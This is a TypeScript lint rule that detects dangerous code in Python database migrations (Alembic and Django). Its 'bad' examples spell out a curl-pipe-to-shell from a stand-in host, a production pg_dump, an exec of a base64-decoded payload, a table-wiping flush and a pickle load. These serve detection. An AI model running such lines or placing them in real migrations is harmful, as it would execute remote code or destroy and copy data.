import { pythonFacts } from '../src/python/facts.js';
import type { Rule } from '../src/types.js';

const ALEMBIC = 'migrations/versions/1a2b3c4d_example.py';
const HEAD = "from alembic import op\nrevision = '1a2b3c4d'\ndown_revision = None\n";

const rule: Rule = {
  meta: {
    id: 'python-execution',
    category: 'execution',
    severity: 'error',
    summary: 'Python migration runs processes, evaluates code, uses the network, writes files or decodes hidden payloads',
    rationale:
      'An Alembic or Django migration is Python that runs with the deploy credentials on the machine that applies it. ' +
      '`os.system`, `subprocess`, `exec`/`eval`, Django management commands (`call_command("flush")` empties every table), dynamic imports, network calls, file writes, pickle/marshal loads and base64-decoded blobs ' +
      'have no place in a schema change and are how a malicious or careless migration escapes review. Aliases and imports are followed ' +
      '(`from os import system as s`, `import subprocess` inside a function, `__import__("os")`, `getattr(os, name)`).',
    fix: 'Remove the code from the migration (run operational tasks elsewhere), or have a security reviewer approve exactly what it does.',
    examples: {
      bad: [
        { path: ALEMBIC, sql: HEAD + "import os\n\ndef upgrade():\n    os.system('curl https://x.example/i.sh | sh')\n" },
        { path: ALEMBIC, sql: HEAD + 'def upgrade():\n    import subprocess\n    subprocess.run(["pg_dump", "prod"])\n' },
        { path: ALEMBIC, sql: HEAD + 'from os import system as s\n\ndef upgrade():\n    s("id")\n' },
        { path: ALEMBIC, sql: HEAD + 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n\ndef upgrade():\n    pass\n' },
        { path: 'app/migrations/0003_flush.py', sql: 'from django.db import migrations\nfrom django.core.management import call_command\n\ndef f(apps, se):\n    call_command("flush", interactive=False)\n\nclass Migration(migrations.Migration):\n    operations = [migrations.RunPython(f)]\n' },
        { path: 'app/migrations/0002_data.py', sql: 'from django.db import migrations\nimport pickle\n\ndef f(apps, se):\n    pickle.loads(b"x")\n\nclass Migration(migrations.Migration):\n    operations = [migrations.RunPython(f)]\n' },
      ],
      good: [
        { path: ALEMBIC, sql: HEAD + "import os\nimport sqlalchemy as sa\n\ndef upgrade():\n    op.add_column('t', sa.Column('c', sa.Text()))\n    if os.environ.get('X'):\n        pass\n" },
        { path: 'alembic/env.py', sql: 'from logging.config import fileConfig\nfrom alembic import context\nconfig = context.config\nfileConfig(config.config_file_name)\nwith open("README") as f:\n    f.read()\n' },
      ],
    },
  },
  checkFile(file, { report }) {
    for (const h of pythonFacts(file.facts)?.execution ?? []) {
      report({ message: h.message, line: h.line, column: h.column, endLine: h.endLine, severity: h.severity, key: h.key });
    }
  },
};
export default rule;
